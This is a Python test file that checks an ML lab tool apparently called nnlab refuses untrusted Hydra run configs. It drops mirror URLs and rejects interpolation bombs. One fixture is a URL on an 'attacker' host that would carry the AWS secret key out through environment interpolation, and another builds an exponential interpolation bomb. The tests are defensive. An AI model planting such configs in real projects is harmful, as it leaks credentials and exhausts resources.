"""A run directory that may come from elsewhere: what is taken from its config, and what is not."""

from pathlib import Path

import pytest

from nnlab.run_directory import change_config, load_config


def run_with(folder: Path, settings: str) -> Path:
    (folder / ".hydra").mkdir()
    (folder / ".hydra" / "config.yaml").write_text(settings)
    return folder


def test_nothing_is_downloaded_for_a_saved_run(tmp_path: Path) -> None:
    address = "https://attacker/${oc.env:AWS_SECRET_ACCESS_KEY}/"
    settings = f"data: {{root: a, mirrors: ['{address}']}}\nhydra: {{a: 1}}\ndefaults: [a]\n"
    assert load_config(run_with(tmp_path, settings)) == {"data": {"root": "a", "mirrors": []}}


def test_the_data_of_a_saved_run_are_written_out(tmp_path: Path) -> None:
    run_dir = run_with(tmp_path, "data: ${theirs}\ntheirs: {mirrors: ['https://attacker/']}\n")
    with pytest.raises(ValueError, match=r"must hold data's settings as nnlab writes them, got \$"):
        load_config(run_dir)


@pytest.mark.parametrize("place", ["hydra", "threads", "data"])
def test_a_bomb_of_interpolations_is_refused_wherever_it_is(tmp_path: Path, place: str) -> None:
    bomb = "".join(f"a{i + 1}: {f'${{a{i}}}' * 10}\n" for i in range(12))
    value = "{path: '${a12}'}" if place == "data" else "${a12}"
    cfg = load_config(run_with(tmp_path, f"a0: x\n{bomb}{place}: {value}\n"))
    with pytest.raises(ValueError, match="must have at most 2000 interpolations"):
        change_config(cfg, [], allowed=[], argument="run")
